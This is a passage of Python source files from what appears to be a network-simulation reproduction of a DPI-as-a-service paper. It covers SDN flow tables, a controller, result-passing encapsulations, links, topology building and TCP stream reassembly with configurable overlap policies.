                self.in_port,
                self.eth_src,
                self.eth_dst,
                self.vlan_vid,
                self.mpls_label,
                self.ip_src,
                self.ip_dst,
                self.ip_proto,
                self.src_port,
                self.dst_port,
            )
        )


class ActionType(enum.Enum):
    """The action vocabulary supported by the simulated switch."""

    OUTPUT = "output"
    FLOOD = "flood"
    DROP = "drop"
    CONTROLLER = "controller"
    PUSH_VLAN = "push_vlan"
    POP_VLAN = "pop_vlan"
    SET_VLAN_VID = "set_vlan_vid"
    PUSH_MPLS = "push_mpls"
    POP_MPLS = "pop_mpls"


@dataclass(frozen=True)
class FlowAction:
    """A single action; ``argument`` meaning depends on the type.

    * ``OUTPUT``: argument is the out-port number.
    * ``PUSH_VLAN`` / ``SET_VLAN_VID``: argument is the VID.
    * ``PUSH_MPLS``: argument is the label.
    * others: argument unused.
    """

    type: ActionType
    argument: int | None = None

    @classmethod
    def output(cls, port: int) -> "FlowAction":
        """Forward out of a specific port."""
        return cls(ActionType.OUTPUT, port)

    @classmethod
    def flood(cls) -> "FlowAction":
        """Forward out of every port except the ingress."""
        return cls(ActionType.FLOOD)

    @classmethod
    def drop(cls) -> "FlowAction":
        """Discard the packet."""
        return cls(ActionType.DROP)

    @classmethod
    def controller(cls) -> "FlowAction":
        """Send to the SDN controller (packet-in)."""
        return cls(ActionType.CONTROLLER)

    @classmethod
    def push_vlan(cls, vid: int) -> "FlowAction":
        """Push a VLAN tag onto the stack."""
        return cls(ActionType.PUSH_VLAN, vid)

    @classmethod
    def pop_vlan(cls) -> "FlowAction":
        """Pop the outer VLAN tag; raises on an empty stack."""
        return cls(ActionType.POP_VLAN)

    @classmethod
    def set_vlan_vid(cls, vid: int) -> "FlowAction":
        """Rewrite the outer VLAN tag's VID."""
        return cls(ActionType.SET_VLAN_VID, vid)

    @classmethod
    def push_mpls(cls, label: int) -> "FlowAction":
        """Push an MPLS label onto the stack."""
        return cls(ActionType.PUSH_MPLS, label)

    @classmethod
    def pop_mpls(cls) -> "FlowAction":
        """Pop the outer MPLS label; raises on an empty stack."""
        return cls(ActionType.POP_MPLS)

    def apply(self, packet: Packet) -> None:
        """Apply a header-modifying action in place.  Forwarding actions
        (OUTPUT/FLOOD/DROP/CONTROLLER) are interpreted by the switch."""
        if self.type is ActionType.PUSH_VLAN:
            packet.push_vlan(VlanTag(vid=self.argument))
        elif self.type is ActionType.POP_VLAN:
            packet.pop_vlan()
        elif self.type is ActionType.SET_VLAN_VID:
            if not packet.vlan_stack:
                raise ValueError("SET_VLAN_VID on packet without VLAN tag")
            packet.vlan_stack[-1] = VlanTag(
                vid=self.argument, pcp=packet.vlan_stack[-1].pcp
            )
        elif self.type is ActionType.PUSH_MPLS:
            packet.push_mpls(MplsLabel(label=self.argument))
        elif self.type is ActionType.POP_MPLS:
            packet.pop_mpls()


@dataclass
class FlowEntry:
    """A prioritized (match, actions) rule."""

    match: FlowMatch
    actions: list[FlowAction]
    priority: int = 0
    entry_id: int = field(default_factory=lambda: next(_entry_ids))
    packets_matched: int = 0
    bytes_matched: int = 0


class FlowTable:
    """A prioritized flow table with highest-priority-first lookup.

    Within equal priorities, the earliest-installed entry wins, matching the
    behaviour of most switch implementations.
    """

    def __init__(self) -> None:
        self._entries: list[FlowEntry] = []

    def __len__(self) -> int:
        return len(self._entries)

    def __iter__(self):
        return iter(self._entries)

    def install(self, entry: FlowEntry) -> FlowEntry:
        """Insert *entry*, keeping the table sorted by descending priority."""
        index = 0
        while (
            index < len(self._entries)
            and self._entries[index].priority >= entry.priority
        ):
            index += 1
        self._entries.insert(index, entry)
        return entry

    def remove(self, entry_id: int) -> bool:
        """Remove the entry with *entry_id*; returns False if absent."""
        for index, entry in enumerate(self._entries):
            if entry.entry_id == entry_id:
                del self._entries[index]
                return True
        return False

    def remove_matching(self, predicate) -> int:
        """Remove every entry for which *predicate(entry)* is true."""
        before = len(self._entries)
        self._entries = [e for e in self._entries if not predicate(e)]
        return before - len(self._entries)

    def clear(self) -> None:
        """Remove every entry."""
        self._entries.clear()

    def lookup(self, packet: Packet, in_port: int) -> FlowEntry | None:
        """Highest-priority entry matching *packet*, updating its counters."""
        for entry in self._entries:
            if entry.match.matches(packet, in_port):
                entry.packets_matched += 1
                entry.bytes_matched += packet.wire_length
                return entry
        return None
