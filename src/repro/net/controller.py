"""The SDN controller.

Provides the rule-installation API used by the traffic steering application
and a reactive L2-learning fallback for traffic that has no policy chain
(e.g. control messages between hosts).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.addresses import MACAddress
from repro.net.openflow import FlowAction, FlowEntry, FlowMatch
from repro.net.packet import Packet
from repro.net.switch import Switch
from repro.net.topology import Topology


@dataclass
class ControllerStats:
    """Plain counters container."""
    packet_ins: int = 0
    flow_mods: int = 0
    packet_outs: int = 0


class SDNController:
    """Logically centralized controller over every switch in a topology."""

    LEARNED_PRIORITY = 10

    def __init__(self, topology: Topology, learning: bool = True) -> None:
        self.topology = topology
        self.learning = learning
        self.stats = ControllerStats()
        # switch name -> {MAC -> port}
        self._mac_tables: dict[str, dict[MACAddress, int]] = {}
        self._applications: list = []
        for switch in topology.switches.values():
            switch.set_controller(self)
            self._mac_tables[switch.name] = {}

    def register_application(self, application) -> None:
        """Applications get first crack at packet-in events.

        An application exposes ``handle_packet_in(switch, packet, in_port)``
        returning True if it consumed the event.
        """
        self._applications.append(application)

    # --- southbound ---------------------------------------------------------

    def install(
        self,
        switch: Switch | str,
        match: FlowMatch,
        actions: list[FlowAction],
        priority: int = 100,
    ) -> FlowEntry:
        """Install a flow rule on *switch*."""
        if isinstance(switch, str):
            switch = self.topology.switches[switch]
        entry = FlowEntry(match=match, actions=actions, priority=priority)
        switch.flow_mod(entry)
        self.stats.flow_mods += 1
        return entry

    def packet_out(
        self, switch: Switch | str, packet: Packet, actions, in_port: int = -1
    ) -> None:
        """Inject a packet at a switch with explicit actions."""
        if isinstance(switch, str):
            switch = self.topology.switches[switch]
        switch.packet_out(packet, actions, in_port)
        self.stats.packet_outs += 1

    # --- packet-in handling ---------------------------------------------------

    def packet_in(self, switch: Switch, packet: Packet, in_port: int) -> None:
        """Table-miss entry point: applications first, then learning."""
        self.stats.packet_ins += 1
        for application in self._applications:
            if application.handle_packet_in(switch, packet, in_port):
                return
        if self.learning:
            self._learn_and_forward(switch, packet, in_port)

    def _learn_and_forward(self, switch: Switch, packet: Packet, in_port: int) -> None:
        """Classic L2-learning behaviour."""
        table = self._mac_tables[switch.name]
        table[packet.eth.src] = in_port
        out_port = table.get(packet.eth.dst)
        if out_port is None or packet.eth.dst.is_broadcast:
            switch.packet_out(packet, [FlowAction.flood()], in_port)
            self.stats.packet_outs += 1
            return
        # Install a forwarding rule for this destination, then release the
        # pending packet along the same port.
        self.install(
            switch,
            FlowMatch(eth_dst=packet.eth.dst),
            [FlowAction.output(out_port)],
            priority=self.LEARNED_PRIORITY,
        )
        switch.packet_out(packet, [FlowAction.output(out_port)], in_port)
        self.stats.packet_outs += 1
