"""Result-passing encapsulations (paper Section 4.2).

Three ways to hand scan results to middleboxes are modeled:

* ``attach_nsh_results`` — an NSH/vPath-style metadata layer carried on the
  data packet itself (option 1);
* ``encode_tag_results`` — piggybacking small results as MPLS labels pushed
  onto the tag stack (option 2; the paper notes this gets messy, and so does
  this model: only a few records fit);
* ``build_result_packet`` — a dedicated result packet sent right after the
  marked data packet (option 3; what the paper's prototype and this repo's
  default mode use).
"""

from __future__ import annotations

from repro.core.reports import MatchReport
from repro.net.packet import (
    EthernetHeader,
    IPv4Header,
    MplsLabel,
    NSHContext,
    Packet,
    allocate_packet_id,
)

#: MPLS labels are 20 bits; results squeezed into tags lose information
#: beyond this many records (the "messy" downside the paper mentions).
MAX_TAG_RECORDS = 3
_TAG_RESULT_FLAG = 1 << 19


def attach_nsh_results(
    packet: Packet, report: MatchReport, service_path: int
) -> None:
    """Encapsulate *report* as NSH metadata on the data packet (option 1)."""
    packet.nsh = NSHContext(
        service_path=service_path,
        service_index=255,
        metadata=report.encode(),
    )


def extract_nsh_results(packet: Packet) -> MatchReport | None:
    """Read NSH-carried results; None when the packet has no metadata."""
    if packet.nsh is None or not packet.nsh.metadata:
        return None
    return MatchReport.decode(packet.nsh.metadata)


def strip_nsh(packet: Packet) -> None:
    """Remove the metadata layer (done by the last DPI-aware middlebox so
    legacy hops and the destination see the original packet)."""
    packet.nsh = None


def encode_tag_results(packet: Packet, report: MatchReport) -> int:
    """Push match records as MPLS labels (option 2).

    Each label encodes ``pattern_id`` (16 bits) + 3 bits of the middlebox id,
    with a flag bit marking it as a result label.  Returns how many records
    were actually encoded; the rest are silently dropped — which is exactly
    why the paper calls this option messy.
    """
    encoded = 0
    for middlebox_id in sorted(report.blocks):
        for record in report.blocks[middlebox_id]:
            if encoded >= MAX_TAG_RECORDS:
                return encoded
            label = (
                _TAG_RESULT_FLAG
                | ((middlebox_id & 0x7) << 16)
                | (record.pattern_id & 0xFFFF)
            )
            packet.push_mpls(MplsLabel(label=label, bottom_of_stack=False))
            encoded += 1
    return encoded


def decode_tag_results(packet: Packet) -> list[tuple[int, int]]:
    """Pop result labels; returns ``(middlebox id, pattern id)`` pairs."""
    results = []
    while packet.mpls_stack and packet.mpls_stack[-1].label & _TAG_RESULT_FLAG:
        label = packet.pop_mpls().label
        results.append(((label >> 16) & 0x7, label & 0xFFFF))
    results.reverse()
    return results


def build_directed_result_packet(
    data_packet: Packet, report: MatchReport, dst_mac, dst_ip
) -> Packet:
    """A result packet addressed straight to a middlebox host.

    Used by the read-only optimization (Section 4.2, option 3 / Big Tap
    style): the middlebox is *not* on the data path, so the report travels
    to it untagged and is delivered by plain host routing, while the data
    packet continues to its destination.
    """
    result = build_result_packet(data_packet, report)
    result.vlan_stack.clear()
    result.mpls_stack.clear()
    result.eth = EthernetHeader(src=data_packet.eth.src, dst=dst_mac)
    result.ip = IPv4Header(
        src=data_packet.ip.src,
        dst=dst_ip,
        protocol=data_packet.ip.protocol,
    )
    return result


def build_result_packet(data_packet: Packet, report: MatchReport) -> Packet:
    """A dedicated result packet (option 3): same headers and tag stack as
    the data packet — so it follows the same policy chain — but its payload
    is the encoded report and it names the packet it describes."""
    result = data_packet.copy()
    result.packet_id = allocate_packet_id()
    result.payload = report.encode()
    result.describes_packet_id = data_packet.packet_id
    result.clear_match_mark()
    return result
