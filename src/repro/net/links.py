"""Point-to-point links with bandwidth, propagation delay and FIFO queueing.

A link connects two ports (each port belongs to a :class:`~repro.net.switch.
Switch` or a :class:`~repro.net.host.Host`).  Transmission is serialized: a
packet occupies the link for ``wire_length * 8 / bandwidth_bps`` seconds and
arrives ``propagation_delay`` later.  A finite queue drops tail packets and
counts the drops.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

from repro.net.packet import Packet
from repro.net.simulator import Simulator


@dataclass
class LinkStats:
    """Counters for one direction of a link."""

    packets_sent: int = 0
    bytes_sent: int = 0
    packets_dropped: int = 0

    def snapshot(self) -> dict:
        """A plain-dict copy of the counters."""
        return {
            "packets_sent": self.packets_sent,
            "bytes_sent": self.bytes_sent,
            "packets_dropped": self.packets_dropped,
        }


class _Direction:
    """One direction of a full-duplex link."""

    def __init__(
        self,
        simulator: Simulator,
        bandwidth_bps: float,
        propagation_delay: float,
        queue_capacity: int,
    ) -> None:
        self._simulator = simulator
        self._bandwidth_bps = bandwidth_bps
        self._propagation_delay = propagation_delay
        self._queue: deque[Packet] = deque()
        self._queue_capacity = queue_capacity
        self._busy = False
        self.stats = LinkStats()
        self.deliver = None  # set by Link.attach
        self.label = None  # set by Link.attach
        # Lazily bound telemetry (the hub may attach after construction).
        self._hub = None
        self._m_packets = None
        self._m_bytes = None
        self._m_drops = None

    def _bind_telemetry(self, hub) -> None:
        self._hub = hub
        registry = hub.registry
        label = self.label if self.label is not None else "?"
        self._m_packets = registry.counter("link_packets_total", link=label)
        self._m_bytes = registry.counter("link_bytes_total", link=label)
        self._m_drops = registry.counter("link_drops_total", link=label)
        registry.gauge_callback(
            "link_queue_depth", lambda: len(self._queue), link=label
        )

    def drop(self) -> None:
        """Count one dropped packet (tail drop or admin-down refusal)."""
        hub = self._simulator.telemetry
        if hub is not None and hub is not self._hub:
            self._bind_telemetry(hub)
        self.stats.packets_dropped += 1
        if self._m_drops is not None:
            self._m_drops.inc()

    def send(self, packet: Packet) -> bool:
        """Enqueue *packet*; returns False if it was tail-dropped."""
        hub = self._simulator.telemetry
        if hub is not None and hub is not self._hub:
            self._bind_telemetry(hub)
        if len(self._queue) >= self._queue_capacity:
            self.stats.packets_dropped += 1
            if self._m_drops is not None:
                self._m_drops.inc()
            return False
        self._queue.append(packet)
        if not self._busy:
            self._transmit_next()
        return True

    def _transmit_next(self) -> None:
        if not self._queue:
            self._busy = False
            return
        self._busy = True
        packet = self._queue.popleft()
        transmit_time = packet.wire_length * 8 / self._bandwidth_bps
        self.stats.packets_sent += 1
        self.stats.bytes_sent += packet.wire_length
        if self._m_packets is not None:
            self._m_packets.inc()
            self._m_bytes.inc(packet.wire_length)

        def arrive() -> None:
            """Deliver the packet to the receiving endpoint."""
            if self.deliver is not None:
                self.deliver(packet)

        self._simulator.schedule(
            transmit_time + self._propagation_delay, arrive, label="link-arrive"
        )
        self._simulator.schedule(transmit_time, self._transmit_next, label="link-free")


class Link:
    """A full-duplex link between two nodes.

    Nodes are any objects with a ``receive(packet, port)`` method; the link is
    attached with the port number each endpoint uses for it.
    """

    DEFAULT_BANDWIDTH_BPS = 1e9  # 1 Gbps
    DEFAULT_PROPAGATION_DELAY = 50e-6  # 50 microseconds
    DEFAULT_QUEUE_CAPACITY = 1000  # packets

    def __init__(
        self,
        simulator: Simulator,
        bandwidth_bps: float = DEFAULT_BANDWIDTH_BPS,
        propagation_delay: float = DEFAULT_PROPAGATION_DELAY,
        queue_capacity: int = DEFAULT_QUEUE_CAPACITY,
    ) -> None:
        if bandwidth_bps <= 0:
            raise ValueError(f"bandwidth must be positive: {bandwidth_bps}")
        if propagation_delay < 0:
            raise ValueError(f"negative propagation delay: {propagation_delay}")
        self._forward = _Direction(
            simulator, bandwidth_bps, propagation_delay, queue_capacity
        )
        self._backward = _Direction(
            simulator, bandwidth_bps, propagation_delay, queue_capacity
        )
        self._endpoint_a = None
        self._endpoint_b = None
        self.bandwidth_bps = bandwidth_bps
        self.propagation_delay = propagation_delay
        #: Administrative state: a downed link refuses new sends (counted
        #: as drops in both stats and telemetry).  Packets already on the
        #: wire when the link goes down still arrive — only queueing of new
        #: ones stops, mirroring a pulled cable.
        self.admin_up = True

    def attach(self, node_a, port_a: int, node_b, port_b: int) -> None:
        """Connect *node_a* (at *port_a*) with *node_b* (at *port_b*)."""
        self._endpoint_a = (node_a, port_a)
        self._endpoint_b = (node_b, port_b)
        name_a = getattr(node_a, "name", str(node_a))
        name_b = getattr(node_b, "name", str(node_b))
        self._forward.label = f"{name_a}->{name_b}"
        self._backward.label = f"{name_b}->{name_a}"
        self._forward.deliver = lambda packet: node_b.receive(packet, port_b)
        self._backward.deliver = lambda packet: node_a.receive(packet, port_a)

    def endpoints(self) -> tuple:
        """The two (node, port) attachments."""
        return (self._endpoint_a, self._endpoint_b)

    def set_admin(self, up: bool) -> None:
        """Take the link administratively down (``False``) or up (``True``)."""
        self.admin_up = up

    def send_from(self, node, packet: Packet) -> bool:
        """Send *packet* out of the link from *node*'s side."""
        if self._endpoint_a is None or self._endpoint_b is None:
            raise RuntimeError("link is not attached")
        if node is self._endpoint_a[0]:
            direction = self._forward
        elif node is self._endpoint_b[0]:
            direction = self._backward
        else:
            raise ValueError(f"{node!r} is not an endpoint of this link")
        if not self.admin_up:
            direction.drop()
            return False
        return direction.send(packet)

    def stats_from(self, node) -> LinkStats:
        """Transmission counters for the direction leaving *node*."""
        if node is self._endpoint_a[0]:
            return self._forward.stats
        if node is self._endpoint_b[0]:
            return self._backward.stats
        raise ValueError(f"{node!r} is not an endpoint of this link")
