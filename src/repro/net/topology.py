"""Topology construction and path computation.

A :class:`Topology` owns the simulator, switches, hosts and links, assigns
port numbers, and computes shortest paths over a networkx graph for the
traffic steering application.

:func:`build_paper_topology` recreates the paper's experimental setup
(Section 6.1): two user hosts, two middlebox hosts and a DPI-service host,
all connected through a single switch.
"""

from __future__ import annotations

import itertools

import networkx as nx

from repro.net.addresses import IPv4Address, MACAddress
from repro.net.host import Host, NetworkFunction
from repro.net.links import Link
from repro.net.simulator import Simulator
from repro.net.switch import Switch


class Topology:
    """A container wiring switches and hosts with links."""

    def __init__(self, simulator: Simulator | None = None) -> None:
        self.simulator = simulator if simulator is not None else Simulator()
        self.switches: dict[str, Switch] = {}
        self.hosts: dict[str, Host] = {}
        self.links: list[Link] = []
        self._graph = nx.Graph()
        self._next_port: dict[str, itertools.count] = {}
        self._host_index = itertools.count()
        # (node name -> {peer name -> local port})
        self._port_map: dict[str, dict[str, int]] = {}

    # --- construction ------------------------------------------------------

    def add_switch(self, name: str) -> Switch:
        """Create a named switch."""
        if name in self.switches or name in self.hosts:
            raise ValueError(f"duplicate node name: {name}")
        switch = Switch(self.simulator, name)
        self.switches[name] = switch
        self._graph.add_node(name, kind="switch")
        self._next_port[name] = itertools.count(1)
        self._port_map[name] = {}
        return switch

    def add_host(
        self,
        name: str,
        function: NetworkFunction | None = None,
        ip: IPv4Address | None = None,
    ) -> Host:
        """Create a host with deterministic MAC/IP addresses."""
        if name in self.switches or name in self.hosts:
            raise ValueError(f"duplicate node name: {name}")
        index = next(self._host_index)
        host = Host(
            self.simulator,
            name,
            mac=MACAddress.from_index(index),
            ip=ip if ip is not None else IPv4Address.from_index(index),
            function=function,
        )
        self.hosts[name] = host
        self._graph.add_node(name, kind="host")
        self._next_port[name] = itertools.count(1)
        self._port_map[name] = {}
        return host

    def add_link(
        self,
        name_a: str,
        name_b: str,
        bandwidth_bps: float = Link.DEFAULT_BANDWIDTH_BPS,
        propagation_delay: float = Link.DEFAULT_PROPAGATION_DELAY,
    ) -> Link:
        """Wire two nodes with a new link, assigning ports."""
        node_a = self._node(name_a)
        node_b = self._node(name_b)
        port_a = next(self._next_port[name_a])
        port_b = next(self._next_port[name_b])
        link = Link(
            self.simulator,
            bandwidth_bps=bandwidth_bps,
            propagation_delay=propagation_delay,
        )
        node_a.attach_link(port_a, link)
        node_b.attach_link(port_b, link)
        link.attach(node_a, port_a, node_b, port_b)
        self.links.append(link)
        self._graph.add_edge(name_a, name_b)
        self._port_map[name_a][name_b] = port_a
        self._port_map[name_b][name_a] = port_b
        return link

    def _node(self, name: str):
        if name in self.switches:
            return self.switches[name]
        if name in self.hosts:
            return self.hosts[name]
        raise KeyError(f"unknown node: {name}")

    # --- queries -------------------------------------------------------------

    @property
    def graph(self) -> nx.Graph:
        """The underlying networkx graph."""
        return self._graph

    def port_toward(self, name: str, neighbor: str) -> int:
        """The local port on *name* that leads directly to *neighbor*."""
        try:
            return self._port_map[name][neighbor]
        except KeyError:
            raise KeyError(f"{name} has no direct link to {neighbor}") from None

    def link_between(self, name_a: str, name_b: str) -> Link:
        """The link directly connecting two named nodes (order-insensitive).

        Fault plans address links by endpoint pair; raises ``KeyError`` when
        the nodes are not directly wired.
        """
        node_a = self._node(name_a)
        node_b = self._node(name_b)
        for link in self.links:
            endpoints = {
                endpoint[0] for endpoint in link.endpoints() if endpoint
            }
            if node_a in endpoints and node_b in endpoints:
                return link
        raise KeyError(f"{name_a} has no direct link to {name_b}")

    def shortest_path(self, source: str, target: str) -> list[str]:
        """Node names along a shortest path (inclusive of endpoints)."""
        return nx.shortest_path(self._graph, source, target)

    def host_of_ip(self, ip: IPv4Address) -> Host | None:
        """The host owning an IP address, or None."""
        for host in self.hosts.values():
            if host.ip == ip:
                return host
        return None

    def run(self, until: float | None = None, max_events: int | None = None) -> int:
        """Drive the simulator (convenience passthrough)."""
        return self.simulator.run(until=until, max_events=max_events)


def build_paper_topology(
    simulator: Simulator | None = None,
    middlebox_functions: dict[str, NetworkFunction] | None = None,
    dpi_function: NetworkFunction | None = None,
) -> Topology:
    """The paper's basic experimental topology (Section 6.1).

    Two user hosts (``user1``, ``user2``), two middlebox hosts (``mb1``,
    ``mb2``) and one DPI-service host (``dpi1``), all on a single switch
    (``s1``).  Functions for the middlebox/DPI hosts may be supplied; user
    hosts record what they receive.
    """
    topo = Topology(simulator)
    topo.add_switch("s1")
    topo.add_host("user1")
    topo.add_host("user2")
    functions = middlebox_functions or {}
    topo.add_host("mb1", function=functions.get("mb1"))
    topo.add_host("mb2", function=functions.get("mb2"))
    topo.add_host("dpi1", function=dpi_function)
    for name in ("user1", "user2", "mb1", "mb2", "dpi1"):
        topo.add_link("s1", name)
    return topo
