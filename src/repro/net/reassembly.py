"""TCP stream reassembly.

The paper treats session reconstruction as a natural companion service to
DPI ("we plan to investigate ... session reconstruction", Section 7) and
relies on in-order flow bytes for stateful scanning.  This module provides
the substrate: per-flow, per-direction reassembly that tolerates
out-of-order arrival, retransmissions and overlapping segments, releasing
bytes exactly once and strictly in order — which is what the stateful
scanner's ``(DFA state, offset)`` bookkeeping requires.

Overlapping segments are exactly where real DPI engines diverge
("Fingerprinting DPI Devices by Their Ambiguities"): when two segments
claim the same sequence range with *different* content, an engine must
pick a side, and different engines pick differently.  This reassembler
makes the choice an explicit, configurable **overlap policy**:

* ``"first"`` — data already received wins; later overlapping bytes are
  discarded (BSD-style).
* ``"last"`` — the newest segment wins; previously buffered overlapping
  bytes are replaced (Linux-style).

Either way, bytes that have already been *released* downstream are
immutable — no policy can rewrite history the scanner has consumed.
Conflicting overlaps (overlapped positions whose content differs) are
counted in :class:`ReassemblyStats` so the adversarial differential
harness (:mod:`repro.adversarial`) can assert on the ambiguity a case
exercised.

Buffer exhaustion is a *decision*, not an exception: a segment that would
push the out-of-order buffer past ``max_buffered`` is dropped, counted in
``stats.overflow_drops`` and reported through the ``on_overflow`` hook
(the :class:`TCPReassembler` routes it to the
``dpi_reassembly_overflow_total`` telemetry counter).  A real engine under
a buffer-flood attack sheds exactly this way; raising would instead tear
down the whole scan path, which is the crash the adversarial corpus's
flood cases used to trigger.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.flows import FiveTuple
from repro.net.packet import Packet, TCPHeader

#: Segment-overlap resolution policies (see the module docstring).
OVERLAP_POLICIES = ("first", "last")


@dataclass
class ReassemblyStats:
    """Plain counters container.

    ``duplicate_segments`` counts segments that contributed no new bytes;
    ``overlapping_segments`` counts segments that overlapped buffered or
    released data but still contributed something; ``conflicting_bytes``
    counts overlapped *buffered* positions whose content disagreed with
    what the policy retained (released bytes are not kept, so conflicts
    against already-released data are not observable).  ``keepalives``
    counts zero-length segments; ``overflow_drops`` counts segments (or
    segment fragments) dropped by the buffer cap.
    """

    segments: int = 0
    duplicate_segments: int = 0
    out_of_order_segments: int = 0
    overlapping_segments: int = 0
    conflicting_bytes: int = 0
    keepalives: int = 0
    overflow_drops: int = 0
    bytes_released: int = 0


class StreamReassembler:
    """One direction of one TCP stream.

    Segments are positioned by sequence number; ``add_segment`` returns the
    bytes that became contiguous with everything already released (possibly
    empty while a gap exists).  Overlaps are resolved by *policy* (``first``
    or ``last`` wins — see the module docstring) so every stream byte is
    released exactly once; the out-of-order buffer is bounded by
    ``max_buffered`` with drop-and-count overflow semantics.
    """

    #: Default cap on buffered out-of-order bytes per stream.
    MAX_BUFFERED_BYTES = 1 << 20

    def __init__(
        self,
        initial_seq: int = 0,
        *,
        policy: str = "first",
        max_buffered: "int | None" = None,
        on_overflow=None,
    ) -> None:
        if policy not in OVERLAP_POLICIES:
            raise ValueError(
                f"unknown overlap policy {policy!r}; "
                f"expected one of {OVERLAP_POLICIES}"
            )
        if max_buffered is not None and max_buffered < 1:
            raise ValueError(f"max_buffered must be positive: {max_buffered}")
        self.next_seq = initial_seq
        self.policy = policy
        self.max_buffered = (
            self.MAX_BUFFERED_BYTES if max_buffered is None else max_buffered
        )
        #: Called as ``on_overflow(seq, dropped_bytes)`` for every drop.
        self.on_overflow = on_overflow
        # Non-overlapping pending intervals, keyed by start seq.  The
        # insert path resolves overlaps by policy, so draining is a plain
        # pop of the interval starting exactly at ``next_seq``.
        self._pending: dict[int, bytes] = {}
        self._buffered = 0
        self.stats = ReassemblyStats()

    @property
    def buffered_bytes(self) -> int:
        """Bytes waiting out of order."""
        return self._buffered

    def add_segment(self, seq: int, data: bytes) -> bytes:
        """Insert a segment; returns newly in-order stream bytes."""
        self.stats.segments += 1
        if not data:
            # Zero-length keepalive: acknowledged, never buffered.
            self.stats.keepalives += 1
            return b""
        end = seq + len(data)
        if end <= self.next_seq:
            # Entirely old data: a retransmission (possibly with changed
            # content — released bytes are gone, so first-wins by nature).
            self.stats.duplicate_segments += 1
            return b""
        if seq < self.next_seq:
            # Partial overlap with released data: released bytes are
            # immutable under either policy, keep only the new tail.
            data = data[self.next_seq - seq :]
            seq = self.next_seq
            self.stats.overlapping_segments += 1
        if seq > self.next_seq:
            self.stats.out_of_order_segments += 1
        self._insert_pending(seq, data)
        return self._drain()

    # --- pending-interval bookkeeping ---------------------------------------

    def _insert_pending(self, seq: int, data: bytes) -> None:
        """Insert ``[seq, seq+len(data))`` resolving overlaps by policy."""
        end = seq + len(data)
        overlaps = sorted(
            (start, existing)
            for start, existing in self._pending.items()
            if start < end and start + len(existing) > seq
        )
        if not overlaps:
            self._store(seq, data)
            return
        self._count_conflicts(seq, data, overlaps)
        if self.policy == "first":
            # Buffered data wins: keep only the uncovered pieces of the
            # new segment.
            pieces: list[tuple[int, bytes]] = []
            cursor = seq
            for start, existing in overlaps:
                if start > cursor:
                    pieces.append((cursor, data[cursor - seq : start - seq]))
                cursor = max(cursor, start + len(existing))
            if cursor < end:
                pieces.append((cursor, data[cursor - seq :]))
            if not pieces:
                self.stats.duplicate_segments += 1
                return
            self.stats.overlapping_segments += 1
            for piece_seq, piece in pieces:
                self._store(piece_seq, piece)
        else:
            # "last": the new segment wins; trim (or split) the buffered
            # intervals it covers, then store it whole.
            self.stats.overlapping_segments += 1
            for start, existing in overlaps:
                del self._pending[start]
                self._buffered -= len(existing)
                if start < seq:
                    head = existing[: seq - start]
                    self._pending[start] = head
                    self._buffered += len(head)
                if start + len(existing) > end:
                    tail = existing[end - start :]
                    self._pending[end] = tail
                    self._buffered += len(tail)
            self._store(seq, data)

    def _count_conflicts(self, seq: int, data: bytes, overlaps) -> None:
        """Count overlapped buffered positions whose content disagrees."""
        end = seq + len(data)
        for start, existing in overlaps:
            lo = max(seq, start)
            hi = min(end, start + len(existing))
            new_slice = data[lo - seq : hi - seq]
            old_slice = existing[lo - start : hi - start]
            if new_slice != old_slice:
                self.stats.conflicting_bytes += sum(
                    1 for a, b in zip(new_slice, old_slice) if a != b
                )

    def _store(self, seq: int, data: bytes) -> None:
        """Buffer one non-overlapping interval, enforcing the byte cap.

        The interval starting exactly at ``next_seq`` is exempt — it is
        drained immediately by the caller and never really occupies the
        buffer.
        """
        if (
            seq != self.next_seq
            and self._buffered + len(data) > self.max_buffered
        ):
            self.stats.overflow_drops += 1
            hook = self.on_overflow
            if hook is not None:
                hook(seq, len(data))
            return
        self._pending[seq] = data
        self._buffered += len(data)

    def _drain(self) -> bytes:
        """Release the contiguous run starting at ``next_seq``, if any."""
        released: list[bytes] = []
        while True:
            data = self._pending.pop(self.next_seq, None)
            if data is None:
                break
            self._buffered -= len(data)
            released.append(data)
            self.next_seq += len(data)
        if not released:
            return b""
        out = b"".join(released)
        self.stats.bytes_released += len(out)
        return out


class TCPReassembler:
    """Reassembly across all flows: feed packets, get in-order stream bytes.

    Each direction of each 5-tuple gets its own :class:`StreamReassembler`
    (created with this reassembler's overlap *policy* and buffer cap),
    anchored at the sequence number of the first segment seen.  Without a
    modeled handshake the anchor is heuristic: if the *first* segment of a
    flow arrived out of order, its predecessors will surface as overlaps
    and be dropped as duplicates — the same failure mode a mid-stream tap
    has in practice.

    ``bind_metrics`` publishes buffer-overflow drops as the
    ``dpi_reassembly_overflow_total`` counter so a flood that forces the
    drop decision is visible in telemetry, not just in per-stream stats.
    """

    def __init__(
        self,
        *,
        policy: str = "first",
        max_buffered: "int | None" = None,
    ) -> None:
        if policy not in OVERLAP_POLICIES:
            raise ValueError(
                f"unknown overlap policy {policy!r}; "
                f"expected one of {OVERLAP_POLICIES}"
            )
        self.policy = policy
        self.max_buffered = max_buffered
        self._streams: dict = {}
        self.stats = ReassemblyStats()
        self._overflow_counter = None

    def __len__(self) -> int:
        return len(self._streams)

    def bind_metrics(self, registry, instance_name: str) -> None:
        """Publish overflow drops into *registry* as
        ``dpi_reassembly_overflow_total{instance=...}``."""
        self._overflow_counter = registry.counter(
            "dpi_reassembly_overflow_total", instance=instance_name
        )

    def _record_overflow(self, seq: int, dropped: int) -> None:
        self.stats.overflow_drops += 1
        counter = self._overflow_counter
        if counter is not None:
            counter.inc()

    def add_packet(self, packet: Packet) -> tuple:
        """Returns ``(flow key, released bytes)`` for a TCP data packet.

        Non-TCP packets pass through unreassembled: the payload is returned
        as-is under the packet's flow key.
        """
        flow_key = FiveTuple.of(packet)
        if not isinstance(packet.l4, TCPHeader):
            return flow_key, packet.payload
        stream = self._streams.get(flow_key)
        if stream is None:
            stream = StreamReassembler(
                initial_seq=packet.l4.seq,
                policy=self.policy,
                max_buffered=self.max_buffered,
                on_overflow=self._record_overflow,
            )
            self._streams[flow_key] = stream
        released = stream.add_segment(packet.l4.seq, packet.payload)
        self.stats.segments += 1
        self.stats.bytes_released += len(released)
        return flow_key, released

    def stream_of(self, flow_key) -> StreamReassembler | None:
        """The per-direction reassembler of a flow, or None."""
        return self._streams.get(flow_key)

    def close_flow(self, flow_key) -> StreamReassembler | None:
        """Drop a finished flow's state (e.g. on FIN/RST or idle timeout)."""
